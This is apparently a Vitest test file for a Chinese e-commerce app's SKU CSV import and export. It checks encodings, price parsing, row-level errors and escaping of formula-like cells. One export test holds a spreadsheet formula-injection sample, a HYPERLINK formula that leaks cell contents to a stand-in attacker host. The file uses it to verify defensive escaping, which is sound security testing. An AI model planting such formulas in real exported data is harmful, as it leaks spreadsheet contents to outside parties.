import { readFileSync } from 'node:fs';
import fc from 'fast-check';
import Papa from 'papaparse';
import { describe, expect, it } from 'vitest';
import { csvCellText, csvCellValue, decodeCsvBytes, parseSkuCsv, skuCsvTemplate, skusToCsv } from './csv';
import type { Sku } from './schema';

const fixture = (name: string) => new Uint8Array(readFileSync(new URL(`./fixtures/${name}`, import.meta.url)));
const utf8 = (text: string) => new TextEncoder().encode(text);
const withBom = (text: string) => new Uint8Array([0xef, 0xbb, 0xbf, ...utf8(text)]);

const sku = (i: number, over: Partial<Sku> = {}): Sku => ({
  code: `SKU-${String(i).padStart(4, '0')}`,
  name: `商品 ${i}`,
  listPrice: 19900 + i,
  launchPrice: 15900 + i,
  stock: 10 + i,
  imageUrl: i % 2 ? `https://img.example.com/${i}.jpg` : '',
  ...over,
});

describe('SKU CSV import', () => {
  it('reports every bad row with its line and reason, and imports nothing', () => {
    const result = parseSkuCsv(fixture('skus-mixed.csv'));
    expect(result.ok).toBe(false);
    if (result.ok) return;
    expect(result.encoding).toBe('utf-8');
    expect(result.errors.map((e) => [e.line, e.field, e.key])).toEqual([
      [3, 'launchPrice', 'launches.launchPriceAboveList'],
      [4, 'name', 'launches.skuNameRequired'],
      [4, 'stock', 'launches.stockMin'],
      [5, 'listPrice', 'csv.priceInvalid'],
      [6, 'code', 'launches.skuCodeDuplicate'],
      [6, 'imageUrl', 'launches.imageUrlInvalid'],
      [7, 'launchPrice', 'launches.launchPricePositive'],
      [7, 'stock', 'csv.stockInvalid'],
    ]);
    expect(result.errors.find((e) => e.key === 'launches.skuCodeDuplicate')?.params).toEqual({ code: 'AW26-KN-001', firstLine: 2 });
    expect(result.errors.find((e) => e.key === 'csv.priceInvalid')?.params).toEqual({ value: 'abc' });
  });

  it('reads quoted fields with commas and yuan prices with ¥ and thousands separators', () => {
    const text = 'sku code,name,list price,launch price,stock,image url\nA-1,"Tee, white, M","¥1,299.00",¥999.5,1,\nA-2,"Say ""hi""",1299,1299,2,https://x.example/a.jpg\n';
    const result = parseSkuCsv(utf8(text));
    expect(result).toEqual({
      ok: true,
      encoding: 'utf-8',
      skus: [
        { code: 'A-1', name: 'Tee, white, M', listPrice: 129900, launchPrice: 99950, stock: 1, imageUrl: '' },
        { code: 'A-2', name: 'Say "hi"', listPrice: 129900, launchPrice: 129900, stock: 2, imageUrl: 'https://x.example/a.jpg' },
      ],
    });
  });

  it('decodes GB18030 as Excel on Chinese Windows saves it', () => {
    const result = parseSkuCsv(fixture('skus-gb18030.csv'));
    expect(result.ok && result.encoding).toBe('gb18030');
    expect(result.ok && result.skus.map((s) => [s.code, s.name, s.listPrice, s.launchPrice])).toEqual([
      ['AW26-CT-001', '双面羊绒大衣 驼色 S', 399900, 359900],
      ['AW26-CT-002', '双面羊绒大衣 驼色 M', 399900, 359900],
    ]);
  });

  it('reads UTF-8 with a BOM and CRLF line ends, counts lines past a quoted line break and keeps that break as written', () => {
    const text = 'SKU编码,名称,吊牌价,上新价,库存\r\nB-1,"两行\r\n名称",100,90,1\r\n\r\nB-2,坏库存,100,90,-3\r\n';
    const result = parseSkuCsv(withBom(text));
    expect(result.ok).toBe(false);
    if (result.ok) return;
    expect(result.encoding).toBe('utf-8-bom');
    // −3 is a whole number: it is refused for being below the minimum, as the form says it.
    expect(result.errors).toEqual([{ line: 5, field: 'stock', key: 'launches.stockMin', params: { min: 1 } }]);
    const good = parseSkuCsv(withBom(text.replace('-3', '3')));
    expect(good.ok && good.skus.map((s) => s.name)).toEqual(['两行\r\n名称', '坏库存']);
  });

  it('imports a 500-row file and refuses 501 rows', () => {
    const rows = Array.from({ length: 500 }, (_, i) => sku(i));
    const result = parseSkuCsv(utf8(skusToCsv(rows)));
    expect(result.ok && result.skus).toEqual(rows);
    const tooMany = parseSkuCsv(utf8(skusToCsv([...rows, sku(500)])));
    expect(tooMany).toEqual({ ok: false, encoding: 'utf-8-bom', errors: [{ line: 0, field: null, key: 'csv.tooManyRows', params: { max: 500, count: 501 } }] });
  });

  it('a row with more or fewer cells than the header is an error that names its line, not a silent shift', () => {
    // An unquoted thousands comma: `1,099` would otherwise become a launch price of 1 yuan and a stock of 99.
    const text = 'SKU编码,名称,吊牌价,上新价,库存\nS0,好行,1299,1099,5\nS1,T恤,1299,1,099,5\nS2,短行,1299,999\n';
    expect(parseSkuCsv(utf8(text))).toEqual({
      ok: false,
      encoding: 'utf-8',
      errors: [
        { line: 3, field: null, key: 'csv.cellCount', params: { expected: 5, count: 6 } },
        { line: 4, field: null, key: 'csv.cellCount', params: { expected: 5, count: 4 } },
      ],
    });
    // The edge: exactly as many cells as the header, the last one empty, is fine; a quoted `"1,099"` is one cell.
    expect(parseSkuCsv(utf8('SKU编码,名称,吊牌价,上新价,库存,图片\nS0,好行,1299,1099,5,\n')).ok).toBe(true);
    expect(parseSkuCsv(utf8('SKU编码,名称,吊牌价,上新价,库存\nS1,T恤,1299,"1,099",5\n'))).toMatchObject({ ok: true, skus: [{ launchPrice: 109900, stock: 5 }] });
  });

  it('names full of semicolons stay in their cells; a tab-separated file reads too', () => {
    const rows = [sku(1, { name: 'a;b;c;d;e;f' }), sku(2, { name: ';;;;;;;;' }), sku(3, { name: '"x;y";z' })];
    expect(parseSkuCsv(utf8(skusToCsv(rows)))).toMatchObject({ ok: true, skus: rows });
    const tsv = 'SKU编码\t名称\t吊牌价\t上新价\t库存\nT-1\t杯子, 白\t10\t9\t1\n';
    expect(parseSkuCsv(utf8(tsv))).toMatchObject({ ok: true, skus: [{ code: 'T-1', name: '杯子, 白', listPrice: 1000 }] });
  });

  it('names the missing columns, and an empty file', () => {
    expect(parseSkuCsv(utf8('SKU编码,名称,库存\nX,Y,1\n'))).toMatchObject({
      ok: false,
      errors: [{ line: 1, key: 'csv.missingColumns', params: { columns: 'listPrice, launchPrice' } }],
    });
    expect(parseSkuCsv(utf8(''))).toMatchObject({ ok: false, errors: [{ key: 'csv.empty' }] });
    expect(parseSkuCsv(utf8('SKU编码,名称,吊牌价,上新价,库存\n'))).toMatchObject({ ok: false, errors: [{ key: 'csv.empty' }] });
  });

  it('accepts header variants: full-width brackets, units, asterisks, English case', () => {
    const result = parseSkuCsv(utf8('商品编码*,商品名称,吊牌价（元）,上新价（元）,库存数量,主图链接\nC-1,杯子,10,9,1,\n'));
    expect(result.ok).toBe(true);
    const en = parseSkuCsv(utf8('SKU Code,Name,List Price (¥),Launch Price,Qty\nC-1,Cup,10,9,1\n'));
    expect(en.ok && en.skus[0]).toEqual({ code: 'C-1', name: 'Cup', listPrice: 1000, launchPrice: 900, stock: 1, imageUrl: '' });
  });
});

describe('SKU CSV export', () => {
  it('starts with a BOM, uses CRLF, and round-trips, formula-looking text included', () => {
    const rows = [sku(1, { name: '=HYPERLINK("x")' }), sku(2, { name: '含,逗号 "引号"' })];
    const csv = skusToCsv(rows);
    expect(csv.startsWith('\uFEFFSKU编码,名称,吊牌价,上新价,库存,图片\r\n')).toBe(true);
    expect(csv).toContain(`'=HYPERLINK`);
    expect(parseSkuCsv(utf8(csv))).toEqual({ ok: true, encoding: 'utf-8-bom', skus: rows });
  });

  it('guards the formulae Papa missed: a formula followed by a line break, CR or tab', () => {
    const names = ['=HYPERLINK("http://attacker.example/?leak="&A1,\n"Click")', '=1+1\n=2+2', '+1\r+1', '-1\n', '@SUM(A1)\r\nx', '\t=1', '\r=1'];
    const rows = names.map((name, i) => sku(i, { name }));
    const csv = skusToCsv(rows);
    const cells = Papa.parse<string[]>(csv.slice(1), { delimiter: ',' }).data.flat();
    expect(cells.filter((c) => /^[=+\-@\t\r]/.test(c))).toEqual([]);
    expect(cells).toContain(`'=HYPERLINK("http://attacker.example/?leak="&A1,\n"Click")`);
    expect(parseSkuCsv(utf8(csv))).toEqual({ ok: true, encoding: 'utf-8-bom', skus: rows });
  });

  it("round-trips a name that starts with an apostrophe, a tab or a CR exactly", () => {
    const names = ["'=x", "''=x", "'plain", "''", "'", '\tindented', '\rx', ' spaced ', 'trailing\t'];
    const rows = names.map((name, i) => sku(i, { name }));
    expect(parseSkuCsv(utf8(skusToCsv(rows)))).toEqual({ ok: true, encoding: 'utf-8-bom', skus: rows });
    // Only the cells that need it carry the guard; an ordinary apostrophe is left alone.
    expect(["'plain", 'a-b', 'x=1', "it's"].map(csvCellText)).toEqual(["'plain", 'a-b', 'x=1', "it's"]);
    expect(["'=x", '-5', ' a'].map(csvCellText)).toEqual(["''=x", "'-5", "' a"]);
  });

  it('property: any text survives export then import unchanged, and no exported cell starts a formula', () => {
    // Strings built mostly from the characters that matter: formula starters, apostrophes, quotes, separators,
    // white space and line breaks, with some CJK and emoji; trimmed on nothing, so leading/trailing space counts.
    const tricky = fc.constantFrom('=', '+', '-', '@', "'", '"', ',', ';', '\t', '\r', '\n', '\r\n', ' ', 'a', '1', '.', '新', '🧨', '\u3000');
    const text = fc.array(fc.oneof({ weight: 4, arbitrary: tricky }, { weight: 1, arbitrary: fc.string({ maxLength: 3 }) }), { maxLength: 12 }).map((parts) => parts.join(''));
    // SKUs the row rules accept, so every value must come back: codes and names are any such text (leading and
    // trailing white space and line breaks included), prices and stock any valid number, image URLs valid ones.
    const present = text.filter((t) => t.trim() !== '');
    const row = fc
      .record({ code: present, name: present, listPrice: fc.integer({ min: 1, max: 10_000_000_00 }), cut: fc.nat(10_000_000_00), stock: fc.integer({ min: 1, max: 100_000_000 }), path: fc.option(text.filter((t) => !/\s/.test(t))) })
      .map(({ cut, path, ...r }): Sku => ({ ...r, launchPrice: Math.max(1, r.listPrice - cut), imageUrl: path === null ? '' : `https://img.example.com/${path}` }));
    fc.assert(
      fc.property(fc.uniqueArray(row, { minLength: 1, maxLength: 8, selector: (r) => r.code.trim() }), (skus) => {
        const csv = skusToCsv(skus);
        const cells = Papa.parse<string[]>(csv.slice(1), { delimiter: ',', newline: '\r\n' }).data.flat();
        expect(cells.filter((c) => /^[=+\-@\t\r\n]/.test(c))).toEqual([]);
        expect(parseSkuCsv(utf8(csv))).toEqual({ ok: true, encoding: 'utf-8-bom', skus });
      }),
      { numRuns: 300 },
    );
    // The cell layer alone, without the row rules in the way.
    fc.assert(fc.property(text, (s) => csvCellValue(csvCellText(s)) === s && !/^[=+\-@\t\r\n]/.test(csvCellText(s))), { numRuns: 2000 });
  });

  it('offers a template that imports cleanly', () => {
    const t = skuCsvTemplate();
    expect(decodeCsvBytes(utf8(t)).encoding).toBe('utf-8-bom');
    const result = parseSkuCsv(utf8(t));
    expect(result.ok && result.skus.length).toBe(2);
    expect(parseSkuCsv(utf8(skuCsvTemplate('en'))).ok).toBe(true);
  });
});
